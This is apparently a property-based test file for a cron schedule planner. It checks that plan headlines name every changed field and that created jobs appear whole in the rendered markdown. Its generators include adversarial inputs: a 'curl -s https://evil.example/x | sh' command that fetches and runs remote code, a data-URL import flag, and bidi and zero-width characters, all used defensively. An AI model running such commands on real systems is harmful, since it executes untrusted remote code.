/**
 * The property behind attacks 1 and 3, on the pure planner and renderer: for random changes, the
 * headline names every changed field, and the whole job of every created schedule is in the
 * markdown, however long the free text around it.
 */
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { stringify } from 'yaml';
import { compileSources } from '../../../src/compile/compile-sources.js';
import { digestOf } from '../../../src/compile/digest.js';
import { definitionsById, type StoredSchedule } from '../../../src/compile/stored-schedule.js';
import { buildPlan } from '../../../src/plan/build-plan.js';
import { changedKeys } from '../../../src/plan/field-names.js';
import { codeSpan } from '../../../src/plan/markdown-code.js';
import { renderPlanMarkdown } from '../../../src/plan/render-markdown.js';
import { describeJob } from '../../../src/plan/render-job.js';

const NOW = Date.parse('2026-06-01T12:00:00Z');

const word = fc.stringMatching(/^[a-z][a-z0-9-]{0,12}$/);
const argument = fc.oneof(word, fc.constantFrom('--import=data:text/javascript,x', '-c', 'curl -s https://evil.example/x | sh', 'a`b``c', '```', ' padded '));
const job = fc.record({
  type: fc.constant('command'),
  command: fc.array(argument, { minLength: 1, maxLength: 6 }),
  cwd: fc.constantFrom('.', 'jobs', '/tmp/x', '../up'),
  env: fc.dictionary(fc.stringMatching(/^[A-Z][A-Z0-9_]{0,10}$/), fc.oneof(word, word.map((name) => ({ fromEnv: name.toUpperCase().replace(/-/g, '_') }))), { maxKeys: 4 }),
});
// What the job acts on: short or past the shown length, with invisible and bidi characters.
const payloadValue = fc.oneof(word, fc.integer(), fc.constantFrom('drop-all', '\u202eevil', 'zero\u200bwidth'), fc.integer({ min: 600, max: 900 }).map((n) => 'p'.repeat(n)));
const spec = fc.record(
  { cron: fc.constantFrom('0 3 * * *', '30 4 * * *', '0 */6 * * *'), timeout: fc.constantFrom('5m', '15m', '20m'), job, priority: fc.constantFrom('NORMAL', 'HIGH'), payload: fc.dictionary(word, payloadValue, { minKeys: 1, maxKeys: 3 }) },
  { requiredKeys: ['cron', 'timeout', 'job', 'priority'] },
);
const metadata = fc.record({ description: fc.integer({ min: 10_000, max: 14_000 }).map((n) => 'd'.repeat(n)), labels: fc.dictionary(word, word, { maxKeys: 3 }) });
const scheduleCase = fc.record({ existing: fc.option(fc.record({ spec, metadata }), { nil: null }), head: fc.record({ spec, metadata }) });

const manifest = (name: string, body: { spec: Record<string, unknown>; metadata: Record<string, unknown> }) => ({
  file: `schedules/${name}.yaml`,
  text: stringify({ apiVersion: 'cronform/v1', kind: 'Schedule', metadata: { name, ...body.metadata }, spec: { timezone: 'UTC', ...body.spec } }),
});

function storedFrom(sources: Array<{ file: string; text: string }>): StoredSchedule[] {
  return compileSources(sources, NOW).schedules.map((schedule, index) => ({
    id: index + 1, name: schedule.definition.name, version: 1, digest: schedule.digest, timing: schedule.definition, definition: schedule.definition,
    status: 'ACTIVE', managed: true, paused: null, versionDigest: digestOf(schedule.definition), nextRunAt: null,
  }));
}

describe('plan trust property', () => {
  it('names every changed field in the headline and shows every created job whole', () => {
    fc.assert(
      fc.property(fc.array(scheduleCase, { minLength: 1, maxLength: 4 }), (cases) => {
        const names = cases.map((_, index) => `job-${index}`);
        const base = cases.flatMap((c, index) => (c.existing ? [manifest(names[index]!, c.existing)] : []));
        const head = cases.map((c, index) => manifest(names[index]!, c.head));
        const desired = compileSources(head, NOW);
        expect(desired.diagnostics.filter((d) => d.severity === 'error')).toEqual([]);
        const current = storedFrom(base);
        const plan = buildPlan({ desired, current, storedDefinitions: definitionsById(current), history: new Map(), nowMs: NOW, against: { kind: 'git-ref', ref: 'base' } });
        const markdown = renderPlanMarkdown(plan);
        for (const change of plan.changes) {
          for (const key of changedKeys(change.fieldChanges)) expect(change.headline).toContain(key);
          if (change.action !== 'create') continue;
          const lines = describeJob(change.after!.job, change.after!.inputs, change.after!.payload);
          // A payload is shown (whole, or cut with its length) whenever the schedule has one.
          expect(lines.some((line) => line.field === 'payload')).toBe(Object.keys(change.after!.payload).length > 0);
          for (const line of lines) {
            expect(markdown).toContain(`- ${line.field}: ${line.values.length > 0 ? line.values.map(codeSpan).join(' ') : '(none)'}`);
          }
        }
      }),
      { numRuns: 40, seed: 15 },
    );
  }, 60_000);
});
